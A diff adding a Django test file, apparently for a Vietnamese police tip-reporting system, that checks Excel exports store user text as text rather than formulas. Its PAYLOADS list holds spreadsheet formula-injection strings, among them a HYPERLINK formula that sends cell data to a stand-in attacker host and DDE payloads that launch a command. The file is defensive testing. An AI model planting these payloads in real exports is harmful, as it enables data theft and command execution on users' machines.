@@ -1,0 +1,97 @@
+"""Who reads tips and how it is recorded (issue 11, defects 3 and 4, and incoming transfers):
+
+- every list, search, export and workflow page that shows tip content adds one access-log row per request;
+- every Excel export writes user text as text, never as a formula;
+- a tip transferred to a unit is in scope for that unit's coordinators and police only (`scoped(…, "incoming")`).
+"""
+
+import io
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from pcmd.core import imports
+from pcmd.core.exports import xlsx_response
+from pcmd.core.models import AccessLog
+from pcmd.org.models import Agency, AgencyKind, Membership
+from pcmd.tips import services
+from pcmd.tips.models import TipChannel
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = ['=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm xem")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def seat(user):
+    return Membership.objects.get(user=user)
+
+
+def new_tip(unit, **extra):
+    data = {"unit": unit, "summary": "Nghi có mua bán dâm tại quán karaoke", "description": "Nội dung tin báo",
+            "location": "Phố Hoàng Văn Thụ", "is_anonymous": True, **extra}
+    return services.tip_create(channel=extra.pop("channel", TipChannel.HOTLINE), data=data)
+
+
+def list_logs(user, **extra):
+    return AccessLog.objects.filter(user=user, target="tips.tip", object_id="", **extra)
+
+
+def workbook_of(response):
+    assert response.status_code == 200, response.status_code
+    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+
+
+# ---------------------------------------------------------------- defect 4: formula injection
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_tip_export_writes_a_formula_like_venue_as_text(bach_dang, owner, login, payload):
+    tip = new_tip(bach_dang, channel=TipChannel.WEB, venue_name=payload, location=payload)
+    sheet = workbook_of(login(owner).get(reverse("tip_export"), {"q": tip.code})).active
+    headers = [c.value for c in sheet[1]]
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == tip.code)
+    for name in ("Tên cơ sở (theo người báo)", "Địa điểm"):
+        venue = row[headers.index(name)]
+        assert venue.data_type == "s" and venue.data_type != "f", (name, venue.data_type)
+        assert venue.quotePrefix and venue.value.strip() == payload.strip()
+    # Real dates and numbers stay what they are.
+    assert row[headers.index("Tiếp nhận")].is_date
+    assert row[headers.index("Số lần gia hạn")].data_type == "n"
+
+
+def test_every_export_keeps_text_as_text_and_numbers_and_dates_as_they_are(settings):
+    import datetime
+
+    response = xlsx_response(title="Thử", headers=["=tiêu đề", "b", "c", "d"], filename="thu",
+                             rows=[[p, 12, datetime.date(2026, 3, 1), "Karaoke Hoàng Gia"] for p in PAYLOADS])
+    sheet = workbook_of(response).active
+    assert sheet["A1"].data_type == "s"
+    for i, payload in enumerate(PAYLOADS, start=2):
+        text, number, day, plain = sheet[i]
+        assert text.data_type == "s" and text.quotePrefix and text.value.strip() == payload.strip()
+        assert number.data_type == "n" and number.value == 12
+        assert day.is_date
+        assert plain.data_type == "s" and plain.value == "Karaoke Hoàng Gia"
+    assert response.rows_written == len(PAYLOADS)
+
+
+def test_hand_written_exports_and_crud_exports_of_other_modules_keep_text(bach_dang, owner, login):
+    from pcmd.venues.models import Establishment
+
+    place = Establishment.objects.filter(unit=bach_dang).first()
+    Establishment.objects.filter(pk=place.pk).update(name="=1+1", address="@SUM(A1)")
+    sheet = workbook_of(login(owner).get(reverse("establishment_export"))).active
+    cells = [c for r in sheet.iter_rows(min_row=2) for c in r if c.value in ("=1+1", "@SUM(A1)")]
+    assert len(cells) == 2 and all(c.data_type == "s" and c.quotePrefix for c in cells)
+
+
+def test_import_template_writes_names_from_the_database_as_text(bach_dang, owner, login, settings, tmp_path):
+    settings.MEDIA_ROOT = tmp_path
+    Agency.objects.create(kind=AgencyKind.objects.filter(level="commune").first(), unit=bach_dang,
+                          province_id=bach_dang.province_id, name='=HYPERLINK("http://x","Cơ quan")')
+    workbook = workbook_of(login(owner).get(reverse("establishment_import_template")))
+    lists = workbook[imports.LISTS_SHEET]
+    cells = [c for col in lists.iter_cols() for c in col if str(c.value).startswith("=HYPERLINK")]
+    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
+    assert all(c.data_type != "f" for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row)
